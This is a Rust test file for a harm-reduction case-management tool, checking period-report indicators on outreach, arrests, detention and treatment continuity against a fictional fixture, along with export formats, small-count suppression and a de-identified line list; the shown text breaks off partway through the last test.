//! The period report of INDICATORS.md over a hand-built database with known
//! answers, its JSON, CSV and XLSX files, suppression, the line list, the
//! permissions and audit of exports, and the two commands.

use crate::support::*;
use calamine::{Data, Reader, open_workbook_auto};
use std::collections::BTreeMap;
use std::path::Path;
use std::process::Output;
use std::sync::atomic::AtomicBool;
use tether::domain::*;
use tether::reports::output::{self, FileFormat};
use tether::reports::period::{
    self, AGE_BANDS, Count, INDICATORS, PeriodReport, Section, age_band, publish,
};
use tether::store::{Store, StoreError};
use uuid::Uuid;

const FROM: &str = "2025-03-01";
const TO: &str = "2025-03-31";

fn person(store: &mut Store, code: &str, sex: Sex, birth_year: Option<i32>) -> Uuid {
    let mut c = Client::with_code(code);
    c.sex = sex;
    c.birth_year = birth_year;
    c.nickname = Some(format!("nick {code}"));
    c.name = Some(format!("Name {code}"));
    c.phone = Some("012 345 678".into());
    c.province = Some("Phnom Penh".into());
    store.create(c).unwrap().id()
}

fn contact(store: &mut Store, client: Uuid, date: &str, f: impl FnOnce(&mut Contact)) -> Uuid {
    let mut c = Contact::new(client, day(date), ContactKind::Street);
    f(&mut c);
    store.create(c).unwrap().id()
}

fn arrest(store: &mut Store, client: Uuid, date: &str, abuse: &[Abuse]) -> Uuid {
    let mut a = Arrest::new(client, day(date));
    a.abuse = abuse.to_vec();
    store.create(a).unwrap().id()
}

fn location(store: &mut Store, name: &str, methadone: Availability, art: Availability) -> Uuid {
    let mut l = Location::new(name, LocationKind::Other);
    l.methadone = methadone;
    l.art = art;
    store.create(l).unwrap().id()
}

fn stay(
    store: &mut Store,
    client: Uuid,
    location: Uuid,
    start: &str,
    end: Option<(&str, ReleaseReason)>,
) -> Uuid {
    store
        .create(Detention {
            client_id: client,
            location_id: location,
            start: day(start),
            end: end.map(|(d, _)| day(d)),
            basis: None,
            arrest_id: None,
            release_reason: end.map(|(_, r)| r),
            notes: None,
        })
        .unwrap()
        .id()
}

fn enroll(
    store: &mut Store,
    client: Uuid,
    service: Service,
    start: &str,
    end: Option<&str>,
) -> Uuid {
    store
        .create(Enrollment {
            client_id: client,
            service,
            provider: None,
            number: None,
            start: day(start),
            end: end.map(day),
            status: EnrollmentStatus::Active,
            dose_mg: None,
            regimen: None,
        })
        .unwrap()
        .id()
}

fn event(
    store: &mut Store,
    enrollment: Uuid,
    client: Uuid,
    date: &str,
    kind: ServiceEventKind,
    days_supplied: Option<i64>,
) -> Uuid {
    store
        .create(ServiceEvent {
            enrollment_id: enrollment,
            client_id: client,
            date: day(date),
            kind,
            days_supplied,
            dose_mg: None,
            cause: None,
            notes: None,
        })
        .unwrap()
        .id()
}

/// The fixture: every indicator with boundary cases. Ages are at 2025.
///
/// | client | sex     | born | band   |
/// |--------|---------|------|--------|
/// | A      | female  | 2000 | 25-29  |
/// | B      | male    | 2012 | <15    |
/// | C      | unknown | –    | unknown|
/// | D      | other   | 1970 | 50+    |
/// | E      | male    | 2006 | 15-19 (tombstoned, with records) |
/// | F      | female  | 1990 | 35-39  |
/// | G      | male    | 1985 | 40-44  |
/// | H      | female  | 2010 | 15-19  |
/// | J      | male    | 1975 | 50+    |
/// | K      | female  | 1995 | 30-34  |
/// | L      | other   | 2000 | 25-29  |
/// | M      | unknown | 1960 | 50+    |
/// | N      | male    | 1990 | 35-39  |
/// | O      | female  | 1990 | 35-39  |
/// | P      | male    | 2008 | 15-19  |
/// | Q      | female  | 1980 | 45-49  |
fn fixture(store: &mut Store) {
    use Availability::{No, Unknown, Yes};
    use ServiceEventKind::{Dose, Refill};
    let a = person(store, "A", Sex::Female, Some(2000));
    let b = person(store, "B", Sex::Male, Some(2012));
    let c = person(store, "C", Sex::Unknown, None);
    let d = person(store, "D", Sex::Other, Some(1970));
    let e = person(store, "E", Sex::Male, Some(2006));
    let f = person(store, "F", Sex::Female, Some(1990));
    let g = person(store, "G", Sex::Male, Some(1985));
    let h = person(store, "H", Sex::Female, Some(2010));

    // Reach. A: a contact the day before, on `from`, on `to`, the day after.
    contact(store, a, "2025-02-28", |_| {});
    contact(store, a, FROM, |c| {
        c.needles_syringes = 10;
        c.condoms = 5;
        c.hiv_test = HivTest::Done;
        c.hiv_result = Some(HivResult::Negative);
        c.referrals = vec![Referral::Methadone, Referral::Art];
    });
    contact(store, a, TO, |c| {
        c.needles_syringes = 2;
        c.hiv_test = HivTest::Done;
        c.hiv_result = Some(HivResult::Positive);
        c.referrals = vec![Referral::Tb];
    });
    contact(store, a, "2025-04-01", |c| c.needles_syringes = 1000);
    // B: first-ever contact in the period; a test offered is not done.
    contact(store, b, "2025-03-15", |c| {
        c.condoms = 3;
        c.naloxone = 1;
        c.hiv_test = HivTest::Offered;
    });
    // C: new; a tombstoned contact never counts.
    contact(store, c, "2025-03-10", |c| {
        c.naloxone = 2;
        c.referrals = vec![Referral::Methadone];
    });
    let gone = contact(store, c, "2025-03-12", |c| c.needles_syringes = 100);
    store.delete::<Contact>(gone).unwrap();
    // D: first contact after the period; F: only before it.
    contact(store, d, "2025-04-02", |_| {});
    contact(store, f, "2025-02-01", |_| {});
    // E: everything, then the client is tombstoned.
    contact(store, e, "2025-03-05", |c| c.needles_syringes = 50);

    // Arrests.
    arrest(store, a, FROM, &[Abuse::Extortion]);
    arrest(store, a, "2025-03-20", &[]);
    arrest(store, b, "2025-02-28", &[Abuse::Violence]);
    arrest(store, b, "2025-04-01", &[Abuse::Violence]);
    arrest(store, d, TO, &[Abuse::Violence, Abuse::Threats]);
    let gone = arrest(store, c, "2025-03-15", &[Abuse::Threats]);
    store.delete::<Arrest>(gone).unwrap();
    arrest(store, e, "2025-03-10", &[Abuse::Violence]);

    // Detention.
    let station = location(store, "Station", No, Unknown);
    let prison = location(store, "Prison", Yes, Yes);
    let centre = location(store, "Centre", Unknown, Yes);
    // A: over `from`, transferred on 03-05 to a stay over `to` (one shared day).
    stay(
        store,
        a,
        station,
        "2025-02-20",
        Some(("2025-03-05", ReleaseReason::Transferred)),
    );
    stay(
        store,
        a,
        prison,
        "2025-03-05",
        Some(("2025-04-10", ReleaseReason::Released)),
    );
    // B: released on bail on `from`; detained again on `to`, still held.
    stay(
        store,
        b,
        centre,
        "2025-01-10",
        Some((FROM, ReleaseReason::Bail)),
    );
    stay(store, b, station, TO, None);
    // C: released on `to` (not detained at the end).
    stay(
        store,
        c,
        prison,
        "2025-03-10",
        Some((TO, ReleaseReason::Released)),
    );
    // D: released the day before, detained the day after.
    stay(
        store,
        d,
        centre,
        "2025-02-01",
        Some(("2025-02-28", ReleaseReason::Released)),
    );
    stay(store, d, station, "2025-04-01", None);
    // F: open since before the period.
    stay(store, f, centre, "2025-01-01", None);
    // G: died in detention (not a release); a tombstoned stay never counts.
    stay(
        store,
        g,
        station,
        "2025-03-20",
        Some(("2025-03-25", ReleaseReason::Died)),
    );
    let gone = stay(
        store,
        g,
        prison,
        "2025-03-26",
        Some(("2025-03-28", ReleaseReason::Released)),
    );
    store.delete::<Detention>(gone).unwrap();
    // H: on `from` to 03-10 at the station, released.
    stay(
        store,
        h,
        station,
        FROM,
        Some(("2025-03-10", ReleaseReason::Released)),
    );
    stay(store, e, station, "2025-03-10", None);

    // Continuity.
    enroll(store, a, Service::Methadone, "2024-01-01", None);
    enroll(store, b, Service::Art, "2025-04-01", None);
    let c_art = enroll(store, c, Service::Art, "2024-06-01", None);
    event(store, c_art, c, "2025-02-25", Refill, Some(60));
    // Re-linked on the 7th day after release, past `to`.
    event(store, c_art, c, "2025-04-07", Refill, Some(30));
    enroll(
        store,
        f,
        Service::Methadone,
        "2024-01-01",
        Some("2024-12-31"),
    );
    enroll(store, f, Service::Art, TO, None);
    enroll(store, g, Service::Methadone, "2025-03-26", None);
    let h_meth = enroll(store, h, Service::Methadone, "2024-01-01", None);
    // A dose before release does not re-link; day 8 is too late.
    event(store, h_meth, h, "2025-03-09", Dose, None);
    event(store, h_meth, h, "2025-03-18", Dose, None);
    enroll(store, e, Service::Art, "2024-01-01", None);

    // ART interruptions.
    let j = person(store, "J", Sex::Male, Some(1975));
    let k = person(store, "K", Sex::Female, Some(1995));
    let l = person(store, "L", Sex::Other, Some(2000));
    let m = person(store, "M", Sex::Unknown, Some(1960));
    let n = person(store, "N", Sex::Male, Some(1990));
    let o = person(store, "O", Sex::Female, Some(1990));
    let p = person(store, "P", Sex::Male, Some(2008));
    let q = person(store, "Q", Sex::Female, Some(1980));
    // J: 01-01 + 30 + 28 = 02-28 < 03-01: interrupted on `from`.
    let x = enroll(store, j, Service::Art, "2024-01-01", None);
    event(store, x, j, "2025-01-01", Refill, Some(30));
    // K: no days supplied covers 30 (interrupted from 03-03), but refilled on 03-02.
    let x = enroll(store, k, Service::Art, "2024-01-01", None);
    event(store, x, k, "2025-01-02", Refill, None);
    event(store, x, k, "2025-03-02", Refill, Some(30));
    // L: interrupted, but the enrollment ended before the period.
    let x = enroll(store, l, Service::Art, "2024-01-01", Some("2025-02-15"));
    event(store, x, l, "2024-12-01", Refill, Some(30));
    // M: no refill yet.
    enroll(store, m, Service::Art, "2024-06-01", None);
    // N: 01-31 + 30 + 28 = 03-30 < 03-31: interrupted on `to`.
    let x = enroll(store, n, Service::Art, "2024-01-01", None);
    event(store, x, n, "2025-01-31", Refill, Some(30));
    // O: one day more supplied: interrupted only from 04-01.
    let x = enroll(store, o, Service::Art, "2024-01-01", None);
    event(store, x, o, "2025-01-31", Refill, Some(31));
    // P: the refill that would cover is tombstoned.
    let x = enroll(store, p, Service::Art, "2024-01-01", None);
    event(store, x, p, "2025-01-01", Refill, Some(30));
    let gone = event(store, x, p, "2025-02-20", Refill, Some(90));
    store.delete::<ServiceEvent>(gone).unwrap();
    // Q: interrupted, but the enrollment is tombstoned.
    let x = enroll(store, q, Service::Art, "2024-01-01", None);
    event(store, x, q, "2025-01-01", Refill, Some(30));
    store.delete::<Enrollment>(x).unwrap();

    store.delete::<Client>(e).unwrap();
}

/// (total, by sex, by age) with only the non-zero keys.
type Expected<'a> = (i64, &'a [(&'a str, i64)], &'a [(&'a str, i64)]);

fn full(keys: &[&str], nonzero: &[(&str, i64)]) -> BTreeMap<String, i64> {
    let mut m: BTreeMap<String, i64> = keys.iter().map(|k| ((*k).to_owned(), 0)).collect();
    for (k, n) in nonzero {
        assert!(m.contains_key(*k), "unknown key {k}");
        m.insert((*k).to_owned(), *n);
    }
    m
}

fn expected() -> Vec<(&'static str, Expected<'static>)> {
    vec![
        (
            "clients_reached",
            (
                3,
                &[("female", 1), ("male", 1), ("unknown", 1)],
                &[("25-29", 1), ("<15", 1), ("unknown", 1)],
            ),
        ),
        (
            "new_clients",
            (
                2,
                &[("male", 1), ("unknown", 1)],
                &[("<15", 1), ("unknown", 1)],
            ),
        ),
        (
            "contacts",
            (
                4,
                &[("female", 2), ("male", 1), ("unknown", 1)],
                &[("25-29", 2), ("<15", 1), ("unknown", 1)],
            ),
        ),
        (
            "needles_syringes",
            (12, &[("female", 12)], &[("25-29", 12)]),
        ),
        (
            "condoms",
            (
                8,
                &[("female", 5), ("male", 3)],
                &[("25-29", 5), ("<15", 3)],
            ),
        ),
        (
            "naloxone",
            (
                3,
                &[("male", 1), ("unknown", 2)],
                &[("<15", 1), ("unknown", 2)],
            ),
        ),
        ("hiv_tests", (2, &[("female", 2)], &[("25-29", 2)])),
        ("hiv_positive", (1, &[("female", 1)], &[("25-29", 1)])),
        (
            "referrals",
            (
                3,
                &[("female", 2), ("unknown", 1)],
                &[("25-29", 2), ("unknown", 1)],
            ),
        ),
        (
            "arrests",
            (
                3,
                &[("female", 2), ("other", 1)],
                &[("25-29", 2), ("50+", 1)],
            ),
        ),
        (
            "clients_arrested",
            (
                2,
                &[("female", 1), ("other", 1)],
                &[("25-29", 1), ("50+", 1)],
            ),
        ),
        (
            "arrests_with_abuse",
            (
                2,
                &[("female", 1), ("other", 1)],
                &[("25-29", 1), ("50+", 1)],
            ),
        ),
        (
            "detentions_started",
            (
                5,
                &[("female", 2), ("male", 2), ("unknown", 1)],
                &[
                    ("25-29", 1),
                    ("<15", 1),
                    ("unknown", 1),
                    ("40-44", 1),
                    ("15-19", 1),
                ],
            ),
        ),
        (
            "clients_detained_at_end",
            (
                3,
                &[("female", 2), ("male", 1)],
                &[("25-29", 1), ("35-39", 1), ("<15", 1)],
            ),
        ),
        (
            "detention_days",
            // A 31 (a shared transfer day once), B 2, C 22, F 31, G 6, H 10.
            (
                102,
                &[("female", 72), ("male", 8), ("unknown", 22)],
                &[
                    ("25-29", 31),
                    ("35-39", 31),
                    ("<15", 2),
                    ("unknown", 22),
                    ("40-44", 6),
                    ("15-19", 10),
                ],
            ),
        ),
        (
            "detained_on_methadone",
            (2, &[("female", 2)], &[("25-29", 1), ("15-19", 1)]),
        ),
        (
            "detained_on_art",
            (
                2,
                &[("female", 1), ("unknown", 1)],
                &[("35-39", 1), ("unknown", 1)],
            ),
        ),
        (
            "detained_without_service",
            (2, &[("female", 2)], &[("25-29", 1), ("15-19", 1)]),
        ),
        (
            "releases",
            (
                3,
                &[("male", 1), ("unknown", 1), ("female", 1)],
                &[("<15", 1), ("unknown", 1), ("15-19", 1)],
            ),
        ),
        (
            "relinked_within_7_days",
            (1, &[("unknown", 1)], &[("unknown", 1)]),
        ),
        (
            "releases_needing_relinkage",
            (
                2,
                &[("unknown", 1), ("female", 1)],
                &[("unknown", 1), ("15-19", 1)],
            ),
        ),
        (
            "art_interruptions",
            (3, &[("male", 3)], &[("50+", 1), ("35-39", 1), ("15-19", 1)]),
        ),
    ]
}

fn sexes() -> Vec<&'static str> {
    period::sex_keys().collect()
}

fn made() -> (TestDb, Store, PeriodReport) {
    let (db, mut store) = fresh();
    fixture(&mut store);
    let report = store.period_report(day(FROM), day(TO)).unwrap();
    (db, store, report)
}

#[test]
fn every_indicator_has_its_known_answer() {
    let (_db, _store, report) = made();
    let expected = expected();
    assert_eq!(
        report.indicators.keys().collect::<Vec<_>>().len(),
        INDICATORS.len()
    );
    assert_eq!(
        expected.len(),
        INDICATORS.len(),
        "every indicator is checked"
    );
    for (key, (total, by_sex, by_age)) in expected {
        let ind = report.indicator(key).unwrap_or_else(|| panic!("{key}"));
        assert_eq!(ind.total, total, "{key} total");
        assert_eq!(ind.by_sex, full(&sexes(), by_sex), "{key} by sex");
        assert_eq!(ind.by_age, full(&AGE_BANDS, by_age), "{key} by age");
    }
    let kinds: BTreeMap<String, i64> = [
        ("methadone", 2),
        ("art", 1),
        ("tb", 1),
        ("hcv", 0),
        ("legal_aid", 0),
        ("shelter", 0),
    ]
    .iter()
    .map(|(k, n)| ((*k).to_owned(), *n))
    .collect();
    assert_eq!(report.referrals_by_kind, kinds);
    let places: BTreeMap<String, i64> = [("Centre", 1), ("Prison", 1), ("Station", 1)]
        .iter()
        .map(|(k, n)| ((*k).to_owned(), *n))
        .collect();
    assert_eq!(report.detained_at_end_by_location, places);
    assert_eq!((report.from, report.to), (day(FROM), day(TO)));
    assert_eq!(report.suppressed_below, None);
}

#[test]
fn a_one_day_period_and_a_wider_one() {
    let (_db, mut store) = fresh();
    fixture(&mut store);
    // Only `to`: A's contact on 03-31, N's interruption, B's new stay.
    let one = store.period_report(day(TO), day(TO)).unwrap();
    assert_eq!(one.indicators["contacts"].total, 1);
    assert_eq!(one.indicators["new_clients"].total, 0);
    assert_eq!(one.indicators["detentions_started"].total, 1);
    assert_eq!(one.indicators["art_interruptions"].total, 3, "J, N and P");
    // A, B, C (ends on `to`), F: four clients held on 03-31 for one day each.
    assert_eq!(one.indicators["detention_days"].total, 4);
    // The whole of 2025 to the fixture's last day: D's first contact is now in.
    let year = store
        .period_report(day("2025-01-01"), day("2025-04-30"))
        .unwrap();
    assert_eq!(year.indicators["new_clients"].total, 5, "A, B, C, D, F");
    assert_eq!(year.indicators["contacts"].total, 8);
}

#[test]
fn a_period_that_ends_before_it_starts_is_refused_naming_the_field() {
    let (_db, store) = fresh();
    let err = store.period_report(day(TO), day(FROM)).unwrap_err();
    match &err {
        StoreError::Invalid(v) => assert_eq!(v.field(), "from"),
        other => panic!("{other:?}"),
    }
    assert!(err.to_string().starts_with("from:"), "{err}");
    assert!(store.report_job(day(TO), day(FROM)).is_err());
}

#[test]
fn the_report_job_runs_on_another_thread_with_progress_and_cancel() {
    let (_db, mut store) = fresh();
    fixture(&mut store);
    let job = store.report_job(day(FROM), day(TO)).unwrap();
    let (report, steps) = std::thread::spawn(move || {
        let steps = std::sync::Mutex::new(Vec::new());
        let never = AtomicBool::new(false);
        let report = job
            .run(
                &|done, total| steps.lock().unwrap().push((done, total)),
                &never,
            )
            .unwrap();
        (report, steps.into_inner().unwrap())
    })
    .join()
    .unwrap();
    assert_eq!(
        report.indicators,
        store.period_report(day(FROM), day(TO)).unwrap().indicators
    );
    let (last, total) = *steps.last().unwrap();
    assert_eq!(last, total);
    assert!(steps.len() > 2 && steps.windows(2).all(|w| w[0].0 <= w[1].0));
    let cancelled = AtomicBool::new(true);
    let job = store.report_job(day(FROM), day(TO)).unwrap();
    assert!(matches!(
        job.run(&|_, _| {}, &cancelled),
        Err(StoreError::Cancelled)
    ));
}

#[test]
fn age_bands_follow_the_year_of_the_last_day() {
    let to = day("2025-01-01");
    assert_eq!(age_band(Some(2011), to), "<15");
    assert_eq!(age_band(Some(2010), to), "15-19");
    assert_eq!(age_band(Some(2006), to), "15-19");
    assert_eq!(age_band(Some(2005), to), "20-24");
    assert_eq!(age_band(Some(1976), to), "45-49");
    assert_eq!(age_band(Some(1975), to), "50+");
    assert_eq!(age_band(None, to), "unknown");
}

#[test]
fn distinct_days_count_a_shared_day_once_and_clip_to_the_period() {
    let (from, to) = (day(FROM), day(TO));
    let stays = [
        (day("2025-02-20"), Some(day("2025-03-05"))),
        (day("2025-03-05"), Some(day("2025-03-07"))),
        (day("2025-03-07"), None),
    ];
    assert_eq!(period::distinct_days(&stays, from, to), 31);
    assert_eq!(
        period::distinct_days(&[(day("2025-04-01"), None)], from, to),
        0
    );
    assert_eq!(
        period::distinct_days(&[(day("2025-01-01"), Some(day("2025-03-01")))], from, to),
        1
    );
}

/// Counts as (indicator, dimension, value) → text, as the CSV has them.
type Cells = BTreeMap<(String, String, String), String>;

/// Every count of a published report.
fn cells(r: &PeriodReport<Count>) -> Cells {
    let mut out = BTreeMap::new();
    for (key, ind) in &r.indicators {
        out.insert(
            (key.clone(), "total".into(), String::new()),
            ind.total.to_string(),
        );
        for (k, n) in &ind.by_sex {
            out.insert((key.clone(), "sex".into(), k.clone()), n.to_string());
        }
        for (k, n) in &ind.by_age {
            out.insert((key.clone(), "age".into(), k.clone()), n.to_string());
        }
    }
    for (k, n) in &r.referrals_by_kind {
        out.insert(
            ("referrals_by_kind".into(), "kind".into(), k.clone()),
            n.to_string(),
        );
    }
    for (k, n) in &r.detained_at_end_by_location {
        out.insert(
            (
                "detained_at_end_by_location".into(),
                "location".into(),
                k.clone(),
            ),
            n.to_string(),
        );
    }
    out
}

fn read_json(path: &Path) -> PeriodReport<Count> {
    serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap()
}

fn read_csv(path: &Path) -> (Cells, Vec<csv::StringRecord>) {
    let mut r = csv::Reader::from_path(path).unwrap();
    assert_eq!(
        r.headers().unwrap().iter().collect::<Vec<_>>(),
        output::CSV_HEADER
    );
    let mut counts = BTreeMap::new();
    let mut about = Vec::new();
    for row in r.records() {
        let row = row.unwrap();
        if &row[0] == "report" {
            about.push(row);
            continue;
        }
        let prev = counts.insert(
            (row[0].to_owned(), row[1].to_owned(), row[2].to_owned()),
            row[3].to_owned(),
        );
        assert!(prev.is_none(), "one row per indicator and disaggregation");
    }
    (counts, about)
}

fn cell_text(c: &Data) -> String {
    match c {
        Data::Float(f) => format!("{}", *f as i64),
        Data::Int(n) => n.to_string(),
        Data::String(s) => s.clone(),
        Data::Empty => String::new(),
        other => panic!("unexpected cell {other:?}"),
    }
}

/// The counts of an XLSX report, read back from the section sheets.
fn read_xlsx(path: &Path) -> (Cells, Vec<Vec<String>>) {
    let mut wb = open_workbook_auto(path).unwrap();
    let mut names = vec![output::SUMMARY_SHEET.to_owned()];
    names.extend(Section::ALL.iter().map(|s| s.title().to_owned()));
    names.push(output::DEFINITIONS_SHEET.to_owned());
    assert_eq!(wb.sheet_names(), names);
    let mut counts = BTreeMap::new();
    for section in Section::ALL {
        let range = wb.worksheet_range(section.title()).unwrap();
        let rows: Vec<Vec<String>> = range
            .rows()
            .map(|r| r.iter().map(cell_text).collect())
            .collect();
        assert_eq!(rows[1], output::section_header());
        let mut i = 2;
        while i < rows.len() && !rows[i][0].is_empty() {
            let key = rows[i][0].clone();
            counts.insert(
                (key.clone(), "total".into(), String::new()),
                rows[i][1].clone(),
            );
            for (j, sex) in period::sex_keys().enumerate() {
                counts.insert(
                    (key.clone(), "sex".into(), sex.into()),
                    rows[i][2 + j].clone(),
                );
            }
            for (j, band) in AGE_BANDS.iter().enumerate() {
                counts.insert(
                    (key.clone(), "age".into(), (*band).into()),
                    rows[i][6 + j].clone(),
                );
            }
            i += 1;
        }
        let extra = match section {
            Section::Reach => Some(("referrals_by_kind", "kind")),
            Section::ArrestAndDetention => Some(("detained_at_end_by_location", "location")),
            Section::Continuity => None,
        };
        if let Some((name, dim)) = extra {
            // A blank row, a title, a header, then the rows.
            i += 3;
            while i < rows.len() && !rows[i][0].is_empty() {
                counts.insert(
                    (name.into(), dim.into(), rows[i][0].clone()),
                    rows[i][1].clone(),
                );
                i += 1;
            }
        }
    }
    let summary = wb
        .worksheet_range(output::SUMMARY_SHEET)
        .unwrap()
        .rows()
        .map(|r| r.iter().map(cell_text).collect())
        .collect();
    let defs = wb.worksheet_range(output::DEFINITIONS_SHEET).unwrap();
    let keys: Vec<String> = defs
        .rows()
        .skip(1)
        .take(INDICATORS.len())
        .map(|r| cell_text(&r[0]))
        .collect();
    assert_eq!(keys, INDICATORS.iter().map(|d| d.key).collect::<Vec<_>>());
    (counts, summary)
}

fn last_audit(store: &Store) -> AuditEntry {
    store.audit_log(1).unwrap().remove(0)
}

#[test]
fn json_csv_and_xlsx_say_the_same_and_each_export_is_audited() {
    let (db, mut store, report) = made();
    let dir = db.dir.path();
    let json = publish(&report, None);
    let want = cells(&json);
    assert_eq!(
        want.len(),
        INDICATORS.len() * (1 + 4 + AGE_BANDS.len()) + 6 + 3,
        "zeros included"
    );

    let path = dir.join("march.json");
    store.save_report(&report, &path, None).unwrap();
    assert_eq!(read_json(&path), json);
    let raw: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    assert_eq!(raw["from"], FROM);
    assert_eq!(raw["to"], TO);
    assert_eq!(raw["device_id"], store.device_id());
    assert!(raw["made_at"].is_string());
    assert!(raw["suppressed_below"].is_null());
    assert_eq!(raw["indicators"]["detention_days"]["total"], 102);
    assert_eq!(raw["indicators"]["contacts"]["by_age"]["<15"], 1);
    assert_eq!(raw["indicators"]["contacts"]["by_sex"]["other"], 0);
    let audit = last_audit(&store);
    assert_eq!(audit.action, AuditAction::Export);
    assert!(
        audit.detail.contains("2025-03-01 to 2025-03-31"),
        "{}",
        audit.detail
    );
    assert!(audit.detail.contains("json"), "{}", audit.detail);
    assert!(
        audit.detail.contains("identifiable: no"),
        "{}",
        audit.detail
    );

    let path = dir.join("march.csv");
    store.save_report(&report, &path, None).unwrap();
    let (counts, about) = read_csv(&path);
    assert_eq!(counts, want);
    assert_eq!(&about[0][1], "from");
    assert_eq!(&about[0][2], FROM);
    assert_eq!(&about[1][2], TO);
    assert!(about.iter().all(|r| &r[1] != "suppressed_below"));
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(text.contains("\ncontacts,total,,4\n"), "{text}");
    assert!(text.contains("\ncontacts,sex,female,2\n"));
    assert!(text.contains("\ncontacts,age,25-29,2\n"));
    assert!(text.contains("\nreferrals_by_kind,kind,methadone,2\n"));
    assert!(last_audit(&store).detail.contains("csv"));

    let path = dir.join("march.xlsx");
    store.save_report(&report, &path, None).unwrap();
    let (counts, summary) = read_xlsx(&path);
    assert_eq!(counts, want);
    let totals: BTreeMap<String, String> = summary
        .iter()
        .filter(|r| INDICATORS.iter().any(|d| d.key == r[3]))
        .map(|r| (r[3].clone(), r[2].clone()))
        .collect();
    assert_eq!(totals.len(), INDICATORS.len());
    for (key, ind) in &json.indicators {
        assert_eq!(totals[key], ind.total.to_string(), "{key}");
    }
    assert!(last_audit(&store).detail.contains("xlsx"));
    let exports = store
        .audit_log(100)
        .unwrap()
        .into_iter()
        .filter(|e| e.action == AuditAction::Export)
        .count();
    assert_eq!(exports, 3);
    // Nothing else left behind.
    let mut files: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("march"))
        .collect();
    files.sort();
    assert_eq!(files, ["march.csv", "march.json", "march.xlsx"]);
}

#[test]
fn suppression_hides_small_counts_in_every_format_and_says_so() {
    let (db, mut store, report) = made();
    let dir = db.dir.path();
    let s = publish(&report, Some(3));
    assert_eq!(s.suppressed_below, Some(3));
    let contacts = &s.indicators["contacts"];
    assert_eq!(contacts.total, Count::Exact(4));
    assert_eq!(contacts.by_sex["female"], Count::Below(3));
    assert_eq!(contacts.by_sex["male"], Count::Below(3));
    assert_eq!(contacts.by_sex["other"], Count::Exact(0));
    assert_eq!(s.indicators["needles_syringes"].total, Count::Exact(12));
    assert_eq!(s.indicators["hiv_positive"].total, Count::Below(3));
    assert_eq!(s.referrals_by_kind["methadone"], Count::Below(3));
    assert_eq!(s.referrals_by_kind["hcv"], Count::Exact(0));
    assert_eq!(s.detained_at_end_by_location["Prison"], Count::Below(3));
    // No count from 1 to 2 is left anywhere.
    let all = cells(&s);
    assert!(all.values().all(|v| v != "1" && v != "2"));
    assert!(all.values().any(|v| v == "<3"));

    let path = dir.join("shared.json");
    store.save_report(&report, &path, Some(3)).unwrap();
    let raw: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    assert_eq!(raw["suppressed_below"], 3);
    assert_eq!(raw["indicators"]["contacts"]["total"], 4);
    assert_eq!(raw["indicators"]["contacts"]["by_sex"]["female"], "<3");
    assert_eq!(raw["indicators"]["contacts"]["by_sex"]["other"], 0);
    assert_eq!(read_json(&path), s);
    assert!(
        last_audit(&store)
            .detail
            .contains("counts below 3 suppressed")
    );

    let path = dir.join("shared.csv");
    store.save_report(&report, &path, Some(3)).unwrap();
    let (counts, about) = read_csv(&path);
    assert_eq!(counts, all);
    let note = about.iter().find(|r| &r[1] == "suppressed_below").unwrap();
    assert_eq!(&note[3], "3");
    assert!(note[2].contains("<3"), "{:?}", note);

    let path = dir.join("shared.xlsx");
    store.save_report(&report, &path, Some(3)).unwrap();
    let (counts, summary) = read_xlsx(&path);
    assert_eq!(counts, all);
    assert!(
        summary.iter().flatten().any(|c| c.contains("shown as <3")),
        "the summary says so"
    );

    // Below 2 means nothing to hide: refused.
    assert!(
        store
            .save_report(&report, &dir.join("x.json"), Some(1))
            .is_err()
    );
    assert!(!dir.join("x.json").exists());
}

#[test]
fn an_unknown_extension_is_refused_and_nothing_is_written() {
    let (db, mut store, report) = made();
    let before = store.audit_log(1000).unwrap().len();
    let path = db.dir.path().join("report.pdf");
    let err = store.save_report(&report, &path, None).unwrap_err();
    assert!(err.to_string().contains(".json, .csv or .xlsx"), "{err}");
    assert!(!path.exists());
    assert_eq!(store.audit_log(1000).unwrap().len(), before);
    assert!(FileFormat::for_line_list(Path::new("x.json")).is_err());
    assert_eq!(
        FileFormat::for_report(Path::new("X.XLSX")).unwrap(),
        FileFormat::Xlsx
    );
}

#[test]
fn definitions_cover_every_indicator_in_order() {
    let keys: Vec<&str> = INDICATORS.iter().map(|d| d.key).collect();
    assert_eq!(keys.len(), 22);
    assert_eq!(keys[0], "clients_reached");
    assert_eq!(keys[21], "art_interruptions");
    let mut sections: Vec<Section> = INDICATORS.iter().map(|d| d.section).collect();
    sections.dedup();
    assert_eq!(sections, Section::ALL);
    assert!(
        INDICATORS
            .iter()
            .all(|d| !d.definition.is_empty() && !d.label.is_empty())
    );
}

fn export(store: &mut Store, identifiable: bool, out: &Path) -> usize {
    let job = store.export_job(identifiable, day("2025-03-31")).unwrap();
    job.run(out, &|_, _| {}, &AtomicBool::new(false)).unwrap()
}

#[test]
fn the_line_list_is_de_identified_unless_asked_and_allowed() {
    let (db, mut store) = fresh();
    fixture(&mut store);
    let dir = db.dir.path();
    let path = dir.join("clients.csv");
    let rows = export(&mut store, false, &path);
    assert_eq!(rows, 15, "the tombstoned client is left out");
    let audit = last_audit(&store);
    assert_eq!(audit.action, AuditAction::Export);
    assert!(audit.detail.contains("line list"), "{}", audit.detail);
    assert!(
        audit.detail.contains("identifiable: no"),
        "{}",
        audit.detail
    );
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(!text.contains("nick") && !text.contains("Name ") && !text.contains("012 345"));
    let mut r = csv::Reader::from_path(&path).unwrap();
    let header: Vec<String> = r.headers().unwrap().iter().map(str::to_owned).collect();
    assert_eq!(header, tether::reports::linelist::columns(false));
    let rows: Vec<BTreeMap<String, String>> = r
        .records()
        .map(|row| {
            header
                .iter()
                .cloned()
                .zip(row.unwrap().iter().map(str::to_owned))
                .collect()
        })
        .collect();
    let codes: Vec<&str> = rows.iter().map(|r| r["code"].as_str()).collect();
    assert_eq!(codes[..4], ["A", "B", "C", "D"]);
    assert!(!codes.contains(&"E"));
    let a = &rows[0];
    assert_eq!(a["sex"], "female");
    assert_eq!(a["age_band"], "25-29");
    assert_eq!(a["province"], "Phnom Penh");
    assert_eq!(a["status"], "active");
    assert_eq!(a["detention_location"], "Prison");
    assert_eq!(a["detained_since"], "2025-03-05");
    assert_eq!(a["enrollments"], "methadone");
